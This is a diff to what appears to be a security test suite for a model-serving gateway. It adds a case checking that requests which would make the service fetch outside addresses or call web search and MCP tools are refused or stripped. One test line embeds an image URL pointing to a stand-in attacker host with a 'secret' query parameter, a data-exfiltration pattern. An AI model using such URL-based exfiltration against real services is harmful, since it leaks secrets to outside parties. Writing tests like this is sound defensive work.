@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from collections.abc import Callable
 
 from harnesses.base import Status
@@ -140,6 +141,13 @@ assert b" 200 " not in talk(HEAD + TOKEN.encode() + b"\r\n" + lines + b"\r\n")
 status(post("/v1/responses", ASK))
 """
 
+FETCHING = r"""
+picture = {"type": "input_image", "image_url": "https://attacker.invalid/?x=secret"}
+status(post("/v1/responses", {**ASK, "input": [{"role": "user", "content": [picture]}]}))
+search = {**ASK, "tools": [{"type": "web_search"}, {"type": "mcp", "server_url": "https://x"}]}
+status(post("/v1/responses", search))
+"""
+
 BUDGET = r"""
 for _ in range(40):
     post("/v1/responses", ASK)
@@ -161,6 +169,14 @@ def _exhausted(attempt: Attempt) -> None:
     assert attempt.result.status is Status.AGENT_ERROR
     assert "budget of 30 model requests" in attempt.result.message
     attempt.untouched()
+
+
+def _not_outside(attempt: Attempt) -> None:
+    _statuses(403, 200)(attempt)
+    lines = (attempt.folder / "wire.jsonl").read_text().splitlines()
+    asked = next(json.loads(line) for line in lines if "tool mcp" in line)
+    assert asked["left_out"] == ["tool web_search", "tool mcp"]
+    assert asked["request"]["tools"] == []
 
 
 def _case(name: str, expected: str, script: str, check: Callable[[Attempt], None]) -> Case:
@@ -195,5 +211,11 @@ GATEWAY = [
         _statuses(200),
     ),
     _case("header bomb", "refused; the next request is served", HEADER_BOMB, _statuses(200)),
+    _case(
+        "having the service go outside",
+        "addresses are refused, and tools of the service taken out of the request",
+        FETCHING,
+        _not_outside,
+    ),
     _case("using up the budget", "the rollout ends as agent_error", BUDGET, _exhausted),
 ]
